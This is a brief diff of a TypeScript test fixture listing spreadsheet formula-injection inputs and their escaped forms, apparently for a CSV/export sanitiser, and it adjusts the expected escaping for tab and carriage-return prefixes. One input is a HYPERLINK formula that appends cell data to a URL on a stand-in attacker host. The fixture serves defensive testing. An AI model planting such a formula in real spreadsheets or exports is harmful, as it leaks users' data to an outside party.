@@ -6,8 +6,8 @@ export const NAMES: readonly (readonly [string, string])[] = [
   ['+44 20 7946 0000', "'+44 20 7946 0000"],
   ['-5 %', "'-5 %"],
   ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-  ['\t=1+1', "\t'=1+1"],
-  ['\r=1+1', "\r'=1+1"],
+  ['\t=1+1', "'\t'=1+1"],
+  ['\r=1+1', "'\r'=1+1"],
   ['  =1+1', "'  =1+1"],
   [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
